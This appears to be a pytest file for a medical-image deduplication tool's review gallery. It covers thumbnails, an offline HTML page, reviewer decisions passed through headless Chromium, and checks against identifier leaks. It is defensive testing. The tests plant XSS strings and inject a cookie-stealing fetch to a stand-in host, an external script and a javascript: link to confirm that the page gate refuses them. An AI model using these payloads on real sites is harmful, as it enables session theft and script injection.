"""The review gallery: thumbnails (DICOM windowed, NIfTI middle slice), the offline page and its one
allow-listed script, decisions.csv read back by ``curate dedup --decisions``.

Oracles: pydicom's own Modality/VOI LUT functions (the displayed DICOM), nibabel (the NIfTI slice), the
exit gate's HTML check re-run on modified pages, headless Chromium clicking the real page (the CSV it
produces is parsed from the save link's ``data:`` URL), and the pairs/groups of a second dedup run checked
against the decisions by hand. Absence of leaks: no raw file name (or its stem) in any gallery file or in
the console.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import urllib.parse
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import chromium_path, invoke
from PIL import Image

pydicom = pytest.importorskip("pydicom")
nib = pytest.importorskip("nibabel")

CT = pydicom.data.get_testdata_file("CT_small.dcm")
#: File names that would identify someone if they leaked (the test asserts they never do).
RAW = ["SMITH_JOHN_19560412", "DOE_JANE_MRN4471", "ROE_RICH_ACC9911", "POE_EDGAR_17650101"]


# ------------------------------------------------------------------------------------------ thumbnails
def test_dicom_thumbnail_is_windowed_like_pydicom():
    from pydicom.pixels import apply_modality_lut, apply_voi_lut

    from curate.pipeline.thumbnails import thumbnail

    ds = pydicom.dcmread(CT)
    values = apply_voi_lut(apply_modality_lut(ds.pixel_array, ds), ds).astype(float)
    oracle = (values - values.min()) / (values.max() - values.min())
    thumb = thumbnail(CT, size=64)
    assert thumb.dtype == np.uint8 and thumb.shape == (64, 64) and thumb.std() > 10
    small = np.asarray(Image.fromarray((oracle * 255).astype(np.uint8)).resize((64, 64), Image.LANCZOS))
    assert np.corrcoef(thumb.ravel().astype(float), small.ravel().astype(float))[0, 1] > 0.98


def test_monochrome1_thumbnail_is_inverted(tmp_path):
    from curate.pipeline.thumbnails import thumbnail

    ds = pydicom.dcmread(CT)
    ds.PhotometricInterpretation = "MONOCHROME1"
    inv = tmp_path / "m1.dcm"
    ds.save_as(inv)
    a, b = thumbnail(CT).astype(int), thumbnail(inv).astype(int)
    assert np.abs(a + b - 255).max() <= 1


def test_nifti_thumbnail_is_the_middle_slice(tmp_path):
    from curate.pipeline.thumbnails import thumbnail

    vol = np.zeros((40, 30, 9), dtype=np.int16)
    vol[10:30, 5:25, 4] = 1000  # only the middle slice (index 4) has the square
    vol[:, :, 0] = 500
    path = tmp_path / "v.nii.gz"
    nib.save(nib.Nifti1Image(vol, np.eye(4)), str(path))
    thumb = thumbnail(path, size=192)
    assert thumb.dtype == np.uint8 and max(thumb.shape) == 40 and thumb.std() > 10
    assert (thumb == 255).sum() == 20 * 20  # the square, and nothing of slice 0


def test_sixteen_bit_png_and_placeholder(tmp_path):
    from curate.pipeline.thumbnails import embedding_placeholder, thumbnail

    arr = (np.arange(300 * 200).reshape(300, 200) % 4000 + 30000).astype(np.uint16)
    p = tmp_path / "deep.png"
    Image.fromarray(arr).save(p)
    thumb = thumbnail(p, size=96)
    assert thumb.dtype == np.uint8 and max(thumb.shape) == 96 and thumb.max() > 200 and thumb.min() < 50
    tile = embedding_placeholder(size=64)
    assert tile.shape == (64, 64) and tile.dtype == np.uint8 and len(np.unique(tile)) > 1
    with pytest.raises(Exception, match="size"):
        thumbnail(p, size=0)


# ------------------------------------------------------------------------------------------ the page
def _groups(label_b="image_b"):
    from curate.report.gallery import GalleryGroup, GalleryItem

    img = np.tile(np.arange(64, dtype=np.uint8), (48, 1))
    pair = [GalleryItem("image_a", img, "A"), GalleryItem(label_b, None, "B")]
    return [GalleryGroup("image_a|image_b", pair, "perceptual", 3.0),
            GalleryGroup("image_c|image_d", [GalleryItem("image_c", img), GalleryItem("image_d", img),
                                             GalleryItem("image_e", img)], "bytes", 0, kept_first=True)]


def test_the_script_is_allow_listed_by_its_digest():
    from curate.policy.html import ALLOWED_SCRIPTS, script_digest
    from curate.report.gallery import REVIEW_SCRIPT

    assert script_digest(REVIEW_SCRIPT) in ALLOWED_SCRIPTS


def test_page_is_offline_escaped_and_accepted(tmp_path):
    from curate.policy.html import unsafe_markup
    from curate.report.gallery import write_review_gallery

    planted = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    index = write_review_gallery(tmp_path / "g", _groups(planted), title="T <b>", intro="i <script>")
    page = index.read_text(encoding="utf-8")
    assert unsafe_markup(page) == []
    assert page.count("<script") == 1 and "onerror=alert" not in page.replace("onerror=alert(1)&gt;", "")
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page
    assert not re.search(r"(https?:|//[a-z])", page, flags=re.I)  # nothing fetched
    thumbs = sorted(p.name for p in (tmp_path / "g" / "thumbs").iterdir())
    assert thumbs == [f"t{k:05d}.png" for k in range(5)]
    assert 'data-a="image_c" data-b="image_e"' in page  # a group's decision covers item 1 with each other


@pytest.mark.parametrize("change", [
    lambda s: s.replace('"use strict";', '"use strict"; fetch("https://x.org/?" + document.cookie);'),
    lambda s: s.replace("a,b,decision", "a,b,decision "),  # one character
    lambda s: s.replace("<script>", '<script src="https://x.org/a.js">'),
    lambda s: s.replace("<script>", "<script type=module>"),
    lambda s: s + "<script></script>",
    lambda s: s + "<script/>",
    lambda s: s.replace("</script>", ""),  # unclosed
    lambda s: s.replace('<a id="save"', '<a id="save" onclick="alert(1)"'),
    lambda s: s.replace('<a id="save"', '<a href="javascript:alert(1)" id="save"'),
    lambda s: s.replace("<body>", '<body><iframe src="x.html"></iframe>'),
])
def test_a_modified_page_is_refused_by_the_gate(tmp_path, change):
    from curate.output import GateError, write_text
    from curate.policy.html import unsafe_markup
    from curate.report.gallery import write_review_gallery

    page = write_review_gallery(tmp_path / "g", _groups(), title="T", intro="i").read_text(encoding="utf-8")
    bad = change(page)
    assert bad != page and unsafe_markup(bad)
    with pytest.raises(GateError, match="live markup"):
        write_text(tmp_path / "bad.html", bad)
    assert not (tmp_path / "bad.html").exists()


def test_a_plain_script_is_still_refused():
    from curate.policy.html import unsafe_markup

    problems = unsafe_markup("<p>x</p><script>alert(1)</script>")
    assert problems == ["<script> (not one of curate's fixed scripts)"]


# ------------------------------------------------------------------------------------------ decisions
def test_read_and_apply_decisions(tmp_path):
    from curate.pipeline.decisions import apply_decisions, matched, read_decisions

    f = tmp_path / "d.csv"
    f.write_text("a, b ,Decision\ny,x,not-copy\nz,w,COPY\ny,x,not-copy\n", encoding="utf-8")
    d = read_decisions(f)
    assert d.to_dict("records") == [{"a": "y", "b": "x", "decision": "not-copy"},
                                     {"a": "z", "b": "w", "decision": "copy"}]
    pairs = pd.DataFrame({"pseudonym_a": ["x", "w", "p"], "pseudonym_b": ["y", "z", "q"], "s": [1, 2, 3]})
    out = apply_decisions(pairs, d)
    assert out.to_dict("records") == [{"pseudonym_a": "w", "pseudonym_b": "z", "s": 2, "review": "copy"},
                                      {"pseudonym_a": "p", "pseudonym_b": "q", "s": 3, "review": ""}]
    assert matched(pairs, d) == {"decisions": 2, "applied": 2, "not_copy": 1, "copy": 1, "unmatched": 0}
    f.write_text("\ufeffa,b,decision\n", encoding="utf-8")  # nothing decided yet (and a BOM, as Excel saves)
    none = read_decisions(f)
    assert list(none.columns) == ["a", "b", "decision"] and len(none) == 0
    assert apply_decisions(pairs, none)["review"].tolist() == ["", "", ""]


BAD = {
    "empty": (b"", "is empty"),
    "blank": (b"\n  \n", "is empty"),
    "binary": (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "not a CSV"),
    "latin1": ("a,b,decision\nx,y,copy\nz,\xe9,copy\n".encode("latin-1"), "not a CSV"),
    "columns": (b"left,right,decision\nx,y,copy\n", "no column(s) a, b"),
    "value": (b"a,b,decision\nx,y,copy\nx,z,maybe\n", "unknown decision value(s) 'maybe'"),
    "ragged": (b'a,b,decision\nx,y,copy,1,2\n"x', "not a CSV"),
    "both": (b"a,b,decision\nx,y,copy\ny,x,not-copy\n", "both"),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_bad_decisions_file_is_one_error_line(tmp_path, case):
    content, message = BAD[case]
    imgs = tmp_path / "imgs"
    imgs.mkdir()
    Image.fromarray(np.zeros((8, 8), np.uint8)).save(imgs / "a.png")
    f = tmp_path / f"{case}.csv"
    f.write_bytes(content)
    res = invoke("dedup", "--images", str(imgs), "--out", str(tmp_path / "out"), "--decisions", str(f))
    assert res.exit_code != 0
    lines = [ln for ln in res.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:") and message in lines[0], res.stderr
    assert str(f) in lines[0] and "Traceback" not in res.stderr
    assert not (tmp_path / "out").exists()


def test_gallery_needs_images(tmp_path):
    emb = tmp_path / "e.npy"
    np.save(emb, np.eye(4, dtype=np.float32))
    res = invoke("dedup", str(emb), "--out", str(tmp_path / "out"), "--gallery")
    assert res.exit_code != 0 and "--gallery" in res.stderr and "--images" in res.stderr
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------------------------------ end to end
def _blocks(seed: int) -> np.ndarray:
    rng = np.random.default_rng(seed)
    return np.kron(rng.random((8, 8)) * 255, np.ones((16, 16))).astype(np.uint8)


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """Three duplicate groups: a DICOM byte copy, a NIfTI byte copy, a PNG with a resized copy; plus
    distinct singles. File names carry the planted raw identifiers."""
    base = tmp_path_factory.mktemp("review")
    imgs = base / "images"
    (imgs / "ct").mkdir(parents=True)
    shutil.copy(CT, imgs / "ct" / f"{RAW[0]}.dcm")
    shutil.copy(CT, imgs / "ct" / f"{RAW[0]}_resent.dcm")
    vol = (np.indices((32, 32, 5)).sum(0) * 40).astype(np.int16)
    nib.save(nib.Nifti1Image(vol, np.eye(4)), str(imgs / f"{RAW[1]}.nii.gz"))
    shutil.copy(imgs / f"{RAW[1]}.nii.gz", imgs / f"{RAW[1]}_copy.nii.gz")
    Image.fromarray(_blocks(1)).save(imgs / f"{RAW[2]}.png")
    Image.fromarray(_blocks(1)).resize((96, 96), Image.LANCZOS).save(imgs / f"{RAW[2]}_small.png")
    for k in range(3):
        Image.fromarray(_blocks(10 + k)).save(imgs / f"{RAW[3]}_{k}.png")
    key = base / "key.txt"
    key.write_text("ab" * 32 + "\n", encoding="ascii")
    res = invoke("dedup", "--images", str(imgs), "--out", str(base / "out"), "--gallery",
                 "--key-file", str(key))
    assert res.exit_code == 0, res.stderr
    return base, imgs, key, res


def _pseudonyms(key: Path, ids) -> dict[str, str]:
    from curate.policy.pseudonyms import load_key

    k = load_key(key)
    return {k.pseudonym(i, kind="image"): i for i in ids}


def test_gallery_files_hold_no_raw_id_or_path(folder):
    base, imgs, _, res = folder
    files = [p for p in (base / "out" / "gallery").rglob("*") if p.is_file()]
    assert (base / "out" / "gallery" / "index.html") in files and len(files) == 1 + 6
    needles = [*RAW, "images/", str(imgs), str(base), ".dcm", ".nii", "_resent", "_small"]
    for p in files:
        data = p.read_bytes()
        for s in needles:
            assert s.encode() not in data, (p.name, s)
    for s in RAW + [str(imgs)]:
        assert s not in res.stdout + res.stderr
    page = (base / "out" / "gallery" / "index.html").read_text(encoding="utf-8")
    assert page.count('class="group"') == 3
    for tier in ("bytes", "perceptual"):
        assert tier in page


def test_thumbnails_in_the_gallery_render(folder):
    base = folder[0]
    for p in (base / "out" / "gallery" / "thumbs").iterdir():
        arr = np.asarray(Image.open(p))
        assert arr.dtype == np.uint8 and arr.std() > 5, p.name  # DICOM, NIfTI and PNG tiles all drawn


FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage",
         "--enable-logging=stderr", "--v=0"]


@pytest.mark.browser
def test_reviewer_decisions_round_trip_through_chromium(folder, tmp_path):
    """Click "not a copy" on the DICOM group and "copy" on the PNG group in the real page; the CSV the page
    offers goes back into dedup, which removes the first group's pair and keeps the second's."""
    base, imgs, key, _ = folder
    gallery = base / "out" / "gallery"
    pairs = pd.read_parquet(base / "out" / "pairs.parquet")
    names = _pseudonyms(key, pd.concat([pairs["id_a"], pairs["id_b"]]).unique())
    ct = next(p for p, i in names.items() if i == f"ct/{RAW[0]}.dcm")
    png = next(p for p, i in names.items() if i == f"{RAW[2]}.png")
    page = gallery / "clicked.html"  # beside index.html, so the thumbnails load; a copy, not the output
    clicker = ("<script>function pick(p,v){var s=document.querySelector('li.pair[data-a=\"'+p+'\"],"
               "li.pair[data-b=\"'+p+'\"]').closest('section');s.querySelector('input[value=\"'+v+'\"]')"
               ".click();}" f"pick('{ct}','not-copy');pick('{png}','copy');</script></body>")
    page.write_text((gallery / "index.html").read_text(encoding="utf-8").replace("</body>", clicker),
                    encoding="utf-8")
    try:
        proc = subprocess.run([chromium_path(), *FLAGS, f"--user-data-dir={tmp_path / 'profile'}",
                               "--virtual-time-budget=5000", "--dump-dom", page.as_uri()],
                              capture_output=True, text=True, timeout=120)
    finally:
        page.unlink()
    assert [ln for ln in proc.stderr.splitlines() if ":CONSOLE" in ln] == []
    assert re.search(r'<body[^>]*data-decided="2"', proc.stdout), proc.stdout[-2000:]
    href = re.search(r'<a id="save"[^>]*href="data:text/csv;charset=utf-8,([^"]*)"', proc.stdout).group(1)
    csv_text = urllib.parse.unquote(href.replace("&amp;", "&"))
    decisions = tmp_path / "decisions.csv"
    decisions.write_text(csv_text, encoding="utf-8")
    dec = pd.read_csv(decisions, dtype=str)
    assert list(dec.columns) == ["a", "b", "decision"] and len(dec) == 2
    assert set(dec["decision"]) == {"copy", "not-copy"} and set(dec["a"]) | set(dec["b"]) <= set(names)

    out2 = tmp_path / "out2"
    res = invoke("dedup", "--images", str(imgs), "--out", str(out2), "--decisions", str(decisions),
                 "--key-file", str(key))
    assert res.exit_code == 0, res.stderr
    assert "review: 2 of 2 decisions applied (1 pairs marked not a copy removed, 1 confirmed)" in \
        " ".join(res.stdout.split())
    after = pd.read_parquet(out2 / "pairs.parquet")
    got = {(a, b): r for a, b, r in zip(after["id_a"], after["id_b"], after["review"])}
    before = {(a, b) for a, b in zip(pairs["id_a"], pairs["id_b"])}
    dicom_pair = (f"ct/{RAW[0]}.dcm", f"ct/{RAW[0]}_resent.dcm")
    png_pair = (f"{RAW[2]}.png", f"{RAW[2]}_small.png")
    assert dicom_pair in before and dicom_pair not in got
    assert got[png_pair] == "copy" and set(got) == before - {dicom_pair}
    keep = (out2 / "keep.txt").read_text(encoding="utf-8").split()
    assert set(dicom_pair) <= set(keep)  # both DICOM files kept once the reviewer said "not a copy"
    groups = pd.read_parquet(out2 / "groups.parquet")
    assert groups["group"].nunique() == 2 and not set(dicom_pair) & set(groups["id"])
    import json

    assert json.loads((out2 / "summary.json").read_text())["review"]["not_copy"] == 1


def test_decisions_on_embedding_pairs_regroup_with_quality(tmp_path):
    """Embeddings: a chain a~b~c and a pair d~e. Marking b~c "not a copy" splits c off; the kept image of
    {a, b} is the higher --quality-col one (not the smaller id); d~e confirmed stays."""
    from curate.pipeline.dedup import run_dedup

    rng = np.random.default_rng(0)
    base = rng.normal(size=(8, 32)).astype(np.float32)
    x = np.vstack([base, base[0] + 0.01, base[0] + 0.02, base[1] + 0.01])  # rows 8, 9 near 0; row 10 near 1
    ids = [f"img{k:02d}" for k in range(len(x))]
    emb = tmp_path / "e.parquet"
    pd.DataFrame({"id": ids, "v": list(x)}).to_parquet(emb)
    meta = tmp_path / "m.csv"
    pd.DataFrame({"id": ids, "split": "train", "q": [1.0] * 8 + [5.0, 9.0, 0.1]}).to_csv(meta, index=False)
    key = tmp_path / "key.txt"
    key.write_text("cd" * 32 + "\n", encoding="ascii")
    first = run_dedup(str(emb), tmp_path / "o1", threshold=0.999, method="exact", device="cpu")
    pairs = {(a, b) for a, b in zip(first.result.pairs["id_a"], first.result.pairs["id_b"])}
    assert pairs == {("img00", "img08"), ("img00", "img09"), ("img08", "img09"), ("img01", "img10")}
    names = _pseudonyms(key, ids)
    p = {v: k for k, v in names.items()}
    dec = tmp_path / "d.csv"
    dec.write_text("a,b,decision\n"
                   f"{p['img09']},{p['img00']},not-copy\n{p['img08']},{p['img09']},not-copy\n"
                   f"{p['img01']},{p['img10']},copy\nimage_0000000000000000,image_1111111111111111,copy\n",
                   encoding="utf-8")
    run = run_dedup(str(emb), tmp_path / "o2", threshold=0.999, method="exact", device="cpu",
                    decisions=dec, key_file=key, meta=meta, quality_col="q")
    got = {(a, b): r for a, b, r in zip(run.result.pairs["id_a"], run.result.pairs["id_b"],
                                        run.result.pairs["review"])}
    assert got == {("img00", "img08"): "", ("img01", "img10"): "copy"}
    groups = pd.read_parquet(tmp_path / "o2" / "groups.parquet")
    reps = set(groups.loc[groups["is_representative"], "id"])
    assert reps == {"img08", "img01"} and "img09" not in set(groups["id"])  # q: img08 5.0 > img00 1.0
    keep = (tmp_path / "o2" / "keep.txt").read_text(encoding="utf-8").split()
    assert set(ids) - set(keep) == {"img00", "img10"}
    assert run.summary["review"] == {"decisions": 4, "applied": 3, "not_copy": 2, "copy": 1, "unmatched": 1}
    assert run.summary["removed"] == 2 and run.summary["groups"] == 2


def test_a_large_group_shows_twelve_images_and_decides_all_its_pairs(tmp_path):
    imgs = tmp_path / "imgs"
    imgs.mkdir()
    for k in range(14):
        Image.fromarray(_blocks(5)).save(imgs / f"copy{k:02d}.png")
    res = invoke("dedup", "--images", str(imgs), "--out", str(tmp_path / "out"), "--gallery")
    assert res.exit_code == 0, res.stderr
    page = (tmp_path / "out" / "gallery" / "index.html").read_text(encoding="utf-8")
    assert page.count("<figure") == 12 and "(2 more not shown)" in page and "14 images" in page
    assert page.count('class="pair"') == 14 * 13 // 2  # a decision covers every pair of the group
